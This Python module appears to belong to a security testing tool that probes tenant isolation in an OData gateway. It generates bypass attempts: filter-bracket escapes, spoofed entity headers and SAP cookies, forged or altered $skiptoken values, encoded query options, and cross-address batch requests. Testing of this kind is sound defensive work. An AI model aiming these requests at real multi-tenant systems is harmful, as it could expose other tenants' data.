"""Families of attacks that are alike on every system: conditions, selectors, entities, continuations."""

from collections.abc import Iterator
from urllib.parse import quote

from isolation_attack import METHODS, Aim, Attack, encodings, mixed
from isolation_words import Words


def filters(words: Words, aim: Aim, places: tuple[str, ...]) -> Iterator[Attack]:
    """Conditions that would get out of the brackets into which the gateway puts them, or around them."""
    for frame, wish, name, place, who in mixed(
        words("frames"), words("wishes"), words("filter_names"), places, aim.who
    ):
        for text in encodings(frame.replace("<wish>", wish)):
            yield Attack("filter", "GET", f"{place}?{name}={text}", who)
    for wish, tail, place, method in mixed(words("wishes"), words("filter_tails"), places, ("GET", "HEAD")):
        yield Attack("filter", method, f"{place}?$filter={quote(wish)}{tail}", aim.who[0])


def selectors(words: Words, aim: Aim, places: tuple[str, ...]) -> Iterator[Attack]:
    """The entity named in the query, the head and cookies."""
    for name, value, shape, place in mixed(words("selectors"), words("selector_values"), words("query_shapes"), places):
        query = shape.format(n=quote(name, safe="$%-[]_."), v=quote(value, safe="*,'"))
        for method in ("GET", "HEAD"):
            yield Attack("query", method, f"{place}?{query}", aim.who[0])
        head = name.replace("%53", "S").replace("%2D", "-").replace("%63", "c").replace("%00", "").strip()
        if not head.isascii() or not head.replace("-", "").replace("_", "").isalnum() or head == "X-Entity":
            continue
        yield Attack("head", "GET", place, aim.who[0], ((head, value),))
        yield Attack("head", "GET", place, aim.who[0], ((f"X-{head}", value), (head, value)))
        cookie = f"{head}={value}; sap-usercontext=sap-client={value}"
        yield Attack("cookie", "GET", place, aim.who[0], (("Cookie", cookie),))


def entities(words: Words, aim: Aim, places: tuple[str, ...]) -> Iterator[Attack]:
    """Callers of one entity who name another one; addresses in headers that products heed."""
    for place, who, value, name in mixed(places, aim.bound, words("entity_values"), words("entity_heads")):
        yield Attack("entity", "GET", place, who, ((name, value),))
        yield Attack("entity", "GET", place, who, (("X-Entity", aim.entity), (name, value)))
    for name, who, target, place in mixed(words("rewritten"), aim.who, places, places):
        yield Attack("head", "GET", place, who, ((name, target),))


def options(words: Words, aim: Aim, places: tuple[str, ...], values: tuple[str, ...]) -> Iterator[Attack]:
    """OData's options, known and unknown, with values that reach further."""
    for option, value, place in mixed(words("options"), values, places, most=800):
        for name in (option, option.replace("$", "%24"), option.upper(), option.lstrip("$")):
            yield Attack("option", "GET", f"{place}?{name}={quote(value, safe='$(),/*')}", aim.who[0])


def tokens(words: Words, aim: Aim, places: tuple[str, ...]) -> Iterator[Attack]:
    """Continuations of another consumer, entity or address, and what might be taken for one."""
    for token, shape, place, who in mixed(aim.tokens, words("token_shapes"), places, aim.who):
        for text in (token, token[:-4], token[::-1], token.swapcase()):
            yield Attack("token", "GET", f"{place}?$skiptoken={shape.replace('<token>', text)}", who)
    for text, place, who in mixed(words("made_tokens"), places, aim.who):
        yield Attack("token", "GET", f"{place}?$skiptoken={text}", who)


def far(words: Words, aim: Aim, base: str, inner: str) -> Iterator[Attack]:
    """OData's ways across: batches, joins, references, functions. `inner`: the address in a batch."""
    part = f"GET {inner} HTTP/1.1\r\nAccept: application/json\r\n\r\n\r\n"
    head = "--b\r\nContent-Type: application/http\r\nContent-Transfer-Encoding: binary\r\n\r\n"
    bodies = (
        (None, ""),
        (f"{head}{part}--b--\r\n".encode(), "multipart/mixed; boundary=b"),
        (f'{{"requests": [{{"id": "1", "method": "GET", "url": "{inner}"}}]}}'.encode(), "application/json"),
        (b"$filter=1 eq 1", "text/plain"),
    )
    for root, method, (body, kind), who in mixed(words("far"), METHODS, bodies, aim.who):
        yield Attack("far", method, f"{base}/{root}", who, (("Content-Type", kind),) if body else (), body)
